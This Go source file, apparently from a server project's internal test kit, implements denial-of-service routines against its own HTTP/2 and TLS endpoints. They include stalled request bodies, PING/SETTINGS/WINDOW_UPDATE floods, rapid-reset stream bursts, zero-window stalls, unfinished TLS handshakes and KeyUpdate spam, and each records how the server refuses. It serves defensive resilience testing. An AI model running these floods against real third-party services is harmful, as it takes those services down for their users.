package attack

import (
	"bytes"
	"context"
	"encoding/binary"
	"fmt"
	"io"
	"net"
	"net/http"
	"slices"
	"time"

	"github.com/carpeta-ciudadana/servidor/internal/testkit/records"
)

// stalled gives bytes, and then nothing until the context ends.
type stalled struct {
	ctx  context.Context
	left int
}

func (s *stalled) Read(b []byte) (int, error) {
	if s.left == 0 {
		<-s.ctx.Done()
		return 0, s.ctx.Err()
	}
	n := min(len(b), s.left)
	copy(b, bytes.Repeat([]byte(" "), n))
	s.left -= n
	return n, nil
}

// stalledStreams has 200 streams of a connection send all but the last byte.
func stalledStreams(ctx context.Context, p *party) {
	transport := &http.Transport{ForceAttemptHTTP2: true, TLSClientConfig: p.tls, MaxConnsPerHost: 1,
		DialContext: func(ctx context.Context, _, _ string) (net.Conn, error) { return p.plain(ctx, 0) }}
	defer transport.CloseIdleConnections()
	p.each(ctx, 200, func(int) {
		since := time.Now()
		req, err := http.NewRequestWithContext(ctx, http.MethodPost, p.API+"/graphql", &stalled{ctx, mib - 1})
		if err != nil {
			panic(err) // the address was parsed before
		}
		req.Header.Set("Content-Type", "application/json")
		req.ContentLength = mib
		resp, err := transport.RoundTrip(req)
		if err != nil {
			p.cut(ctx)
			return
		}
		defer resp.Body.Close()
		text, _ := io.ReadAll(resp.Body)
		if code := codeOf(text); resp.StatusCode == http.StatusRequestTimeout {
			p.tally.end("408 too slow")
		} else if code != "" {
			p.tally.refuse(fmt.Sprint(resp.StatusCode, " ", code), since)
		}
	})
}

const preface = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"

// frame is a frame of HTTP/2.
func frame(kind, flags byte, stream uint32, payload []byte) []byte {
	b := binary.BigEndian.AppendUint32(nil, uint32(len(payload))<<8|uint32(kind))
	b = binary.BigEndian.AppendUint32(append(b, flags), stream)
	return append(b, payload...)
}

const (
	frameData     = 0x0
	frameHeaders  = 0x1
	framePriority = 0x2
	frameReset    = 0x3
	frameSettings = 0x4
	framePing     = 0x6
	frameWindow   = 0x8
)

// frames floods with PING, SETTINGS, WINDOW_UPDATE, PRIORITY, empty DATA, and requests that are called off.
func frames(ctx context.Context, p *party) {
	ping := bytes.Repeat(frame(framePing, 0, 0, make([]byte, 8)), 500)
	settings := bytes.Repeat(frame(frameSettings, 0, 0, []byte{0, 4, 0, 1, 0, 0}), 500)
	empty := bytes.Repeat(frame(frameData, 0, 1, nil), 900)
	update := bytes.Repeat(frame(frameWindow, 0, 0, []byte{0, 0, 0, 1}), 600)
	priority := bytes.Repeat(frame(framePriority, 0, 1, []byte{0, 0, 0, 0, 1}), 600)
	kinds := [][]byte{append(ping, update...), append(settings, priority...), empty, nil}
	p.eachConn(ctx, len(kinds), p.dialHTTP2, func(i int, conn net.Conn) {
		begin := append([]byte(preface), frame(frameSettings, 0, 0, nil)...)
		if _, err := conn.Write(append(begin, frame(frameHeaders, 0x4, 1, p.postHeaders())...)); err != nil {
			p.cut(ctx)
			return
		}
		go func() { _, _ = io.Copy(io.Discard, conn) }()
		for stream := uint32(3); ctx.Err() == nil; {
			flood := kinds[i]
			for len(flood) < 8<<10 { // of the last kind
				flood = append(flood, frame(frameHeaders, 0x4, stream, p.postHeaders())...)
				flood = append(flood, frame(frameReset, 0, stream, []byte{0, 0, 0, 8})...)
				stream += 2
			}
			if _, err := conn.Write(flood); err != nil {
				p.cut(ctx)
				return
			}
			p.tally.take()
			rest(ctx, time.Duration(len(flood))*time.Microsecond) // 1 MB/s
		}
	})
}

// crowdedConnections has as many requests on each connection as may be, and sends no body of any.
func crowdedConnections(ctx context.Context, p *party) {
	p.eachConn(ctx, 64, p.dialHTTP2, func(_ int, conn net.Conn) {
		all := append([]byte(preface), frame(frameSettings, 0, 0, nil)...)
		for n := range uint32(100) {
			all = append(all, frame(frameHeaders, 0x4, 2*n+1, p.postHeaders())...)
		}
		if _, err := conn.Write(all); err != nil {
			p.cut(ctx)
			return
		}
		p.tally.take()
		_, _ = io.Copy(io.Discard, conn) // until it ends
		p.cut(ctx)
	})
}

// endlessHellos begin a handshake with a hello that does not come to its end.
func endlessHellos(ctx context.Context, p *party) {
	hello := append([]byte{1, 0, 0xf0, 0, 3, 3}, make([]byte, 60<<10)...)
	var text []byte
	for part := range slices.Chunk(hello, 16<<10) {
		text = append(append(text, 22, 3, 1, byte(len(part)>>8), byte(len(part))), part...)
	}
	p.stalled(ctx, 1000, p.plain, text[:len(text)-100])
}

// postHeaders is the block of a POST, each field spelt out.
func (p *party) postHeaders() (block []byte) {
	for _, field := range [][2]string{{":method", "POST"}, {":scheme", "https"}, {":path", "/graphql"}, {":authority", p.host}, {"content-type", "application/json"}} {
		block = literal(block, field[0], field[1])
	}
	return block
}

// literal appends a field that is spelt out; both parts are short.
func literal(block []byte, name, value string) []byte {
	block = append(append(block, 0, byte(len(name))), name...)
	return append(append(block, byte(len(value))), value...)
}

// longFrames announce frames of a megabyte, and stop before their last byte.
func longFrames(ctx context.Context, p *party) {
	text := append([]byte(preface), frame(frameSettings, 0, 0, nil)...)
	text = append(text, frame(frameData, 0, 1, make([]byte, mib-1))...)
	p.stalled(ctx, 1000, p.dialHTTP2, text[:len(text)-1])
}

// untakenAnswers ask for a page with many fields in each header, and let nothing of the answers come.
func untakenAnswers(ctx context.Context, p *party) { p.untaken(ctx, p.largest(ctx), 2, 930) }

// untakenEnds ask for as many short answers as may be under way, with as many fields in each header as are read, and
// let nothing of them come. Their handlers have ended.
func untakenEnds(ctx context.Context, p *party) { p.untaken(ctx, "/no", 100, 190) }

// untaken has a thousand connections make so many requests, and gives no window.
func (p *party) untaken(ctx context.Context, path string, requests, fields int) {
	block := []byte{0x82, 0x87} // GET, https
	for _, field := range [][2]string{{":path", path}, {":authority", p.host}} {
		block = literal(block, field[0], field[1])
	}
	for n := range fields {
		block = literal(block, fmt.Sprintf("x%03d", n), "")
	}
	text := append([]byte(preface), frame(frameSettings, 0, 0, []byte{0, 4, 0, 0, 0, 0})...)
	for n := range requests {
		text = append(text, frame(frameHeaders, 0x4|0x1, uint32(2*n+1), block)...)
	}
	p.stalled(ctx, 1000, p.dialHTTP2, text)
}

// endlessMessages begin a message after the handshake that does not come to its end.
func endlessMessages(ctx context.Context, p *party) {
	const length = 250 << 10
	message := append([]byte{records.Certificate, length >> 16, length >> 8 & 255, length & 255}, make([]byte, length-1)...)
	p.eachConn(ctx, 1000, p.plain, func(_ int, conn net.Conn) {
		context.AfterFunc(ctx, func() { _ = conn.Close() })
		c, err := records.Client(conn)
		for part := range slices.Chunk(message, 16<<10) {
			if err == nil {
				err = c.Send(records.Handshake, part)
			}
		}
		if err == nil {
			_, _ = io.Copy(io.Discard, c)
		}
		p.cut(ctx)
	})
}

// idleHTTP2 opens a thousand connections, and asks for nothing.
func idleHTTP2(ctx context.Context, p *party) {
	p.stalled(ctx, 1000, p.dialHTTP2, append([]byte(preface), frame(frameSettings, 0, 0, nil)...))
}

// newKeys changes the keys of TLS as often as crypto/tls lets it.
func newKeys(ctx context.Context, p *party) {
	p.eachConn(ctx, 4, p.plain, func(_ int, conn net.Conn) {
		context.AfterFunc(ctx, func() { _ = conn.Close() })
		c, err := records.Client(conn)
		for n := 0; err == nil; n++ {
			if n%16 == 0 {
				err = c.Send(records.Application, []byte("G"))
				rest(ctx, 1800*time.Microsecond) // 250 KB/s
			}
			if err == nil {
				err = c.Update()
			}
		}
		p.cut(ctx)
	})
}
